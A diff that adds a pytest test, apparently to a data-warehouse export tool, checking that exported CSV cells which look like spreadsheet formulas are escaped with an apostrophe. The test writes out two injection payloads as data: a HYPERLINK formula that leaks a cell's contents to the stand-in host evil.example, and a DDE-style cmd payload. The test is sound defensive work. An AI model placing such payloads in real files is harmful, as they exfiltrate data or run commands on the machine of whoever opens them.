@@ -202,3 +202,34 @@ def test_the_checksum_ignores_when_but_not_what(warehouse: Path, tmp_path: Path)
         assert warehouse_checksum(conn) == before
         conn.execute("UPDATE performance SET label = label || ' ' WHERE rowid = 1")
         assert warehouse_checksum(conn) != before
+
+
+def test_text_a_spreadsheet_would_run_is_written_inert(warehouse: Path, tmp_path: Path) -> None:
+    """A leaflet ingested from a file named like a formula: its CSV cell starts with `'`, its
+    Parquet value is untouched, and negative figures stay plain numbers in the CSV."""
+    copy = tmp_path / "lps.db"
+    shutil.copyfile(warehouse, copy)
+    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
+    with sqlite3.connect(copy) as conn:
+        [(document_id,)] = conn.execute(
+            "SELECT document_id FROM documents WHERE status = 'loaded' ORDER BY document_id "
+            "LIMIT 1").fetchall()
+        conn.execute("UPDATE documents SET source = ? WHERE document_id = ?",
+                     [hostile, document_id])
+        conn.execute("UPDATE document_sources SET source = ? WHERE document_id = ?",
+                     ["@SUM(1+1)*cmd|' /C calc'!A0", document_id])
+    result = CliRunner().invoke(main, ["export", str(tmp_path / "out"), "--db", str(copy),
+                                       "--no-record"])
+    assert result.exit_code == 0, result.output
+    documents = (tmp_path / "out" / "data" / "documents.csv").read_text("utf-8")
+    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""open"")"' in documents
+    assert hostile not in documents.replace("'" + hostile, "")  # never bare
+    sources = (tmp_path / "out" / "data" / "document_sources.csv").read_text("utf-8")
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in sources
+    parquet = pd.read_parquet(tmp_path / "out" / "parquet" / "documents.parquet")
+    assert parquet[parquet["document_id"] == document_id]["source"].tolist() == [hostile]
+    performance = (tmp_path / "out" / "data" / "performance.csv").read_text("utf-8")
+    negatives = [cell for line in performance.splitlines() for cell in line.split(",")
+                 if cell.startswith("-")]
+    assert negatives and all(float(cell) < 0 for cell in negatives)  # numbers, no apostrophe
+    assert "'-" not in performance
